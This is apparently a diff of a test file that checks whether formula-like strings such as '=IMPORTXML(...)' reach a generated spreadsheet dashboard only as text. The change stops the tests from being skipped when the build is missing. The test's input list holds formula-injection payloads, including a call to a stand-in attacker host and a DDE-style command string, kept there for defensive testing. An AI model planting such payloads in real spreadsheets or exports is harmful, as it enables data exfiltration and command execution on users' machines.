@@ -1,12 +1,12 @@
 // Strings from the data that begin with = + - @ land on a dashboard as text: no formula is ever created.
 
-import { existsSync } from 'node:fs';
 import { snapshotWorkbook } from '../../scripts/runtime';
-import { BUNDLE, DEALS, setup, tab } from '../reliability/runtime-fixture';
+import { DEALS, setup, tab } from '../reliability/runtime-fixture';
 
 const HOSTILE = ['=IMPORTXML("http://evil.example","//a")', '+33 6 12 34 56 78', '-2+3+cmd|calc', '@SUM(1,2)', '=1+1'];
 
-const describeBuilt = existsSync(BUNDLE) ? describe : describe.skip;
+/** `npm test` builds dist/ first: a missing bundle must fail these tests, never skip them. */
+const describeBuilt = describe;
 
 describeBuilt('hostile cells on a generated dashboard', () => {
   const deals = [
